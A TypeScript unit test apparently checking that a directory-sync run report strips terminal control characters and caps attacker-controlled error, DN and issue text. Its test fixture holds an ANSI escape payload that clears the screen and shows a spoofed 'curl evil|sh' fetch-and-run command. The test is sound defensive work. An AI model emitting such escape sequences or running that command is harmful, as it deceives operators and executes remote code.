import type { Run } from '@dirsync/db';
import { describeRun } from './report.ts';

// A hostile directory controls the text of errors, DNs and issue reasons: printed to an
// operator's terminal, none of it may carry control sequences or run on without end.
test('a run report prints directory text without control characters and capped', () => {
  const escape = '\u001b[2J\u001b[31mFAKE: run `curl evil|sh`\u0007';
  const run = {
    id: 'run-1',
    integrationId: 'int-1',
    status: 'failed',
    mode: 'full',
    modeRequested: 'full',
    trigger: 'manual',
    requestedBy: null,
    dryRun: false,
    reason: null,
    workerId: 'w1',
    queuedAt: new Date('2026-12-06T00:00:00Z'),
    startedAt: new Date('2026-12-06T00:00:01Z'),
    finishedAt: new Date('2026-12-06T00:00:02Z'),
    durationMs: 1000,
    error: `protocol: ${escape}${'x'.repeat(5_000)}`,
    approvedAt: null,
    approvedBy: null,
    fetched: 1,
    created: 0,
    updated: 0,
    unchanged: 0,
    deleted: 0,
    restored: 0,
    failed: 1,
    wouldDelete: 0,
    membershipsAdded: 0,
    membershipsRemoved: 0,
    issueCount: 1,
    issues: [{ dn: `cn=${escape},dc=x`, reason: `bad value ${escape}` }],
  } as unknown as Run;
  const text = describeRun(run);
  expect(text).toContain('FAKE: run `curl evil|sh`');
  expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
  expect(text.length).toBeLessThan(3_000);
});
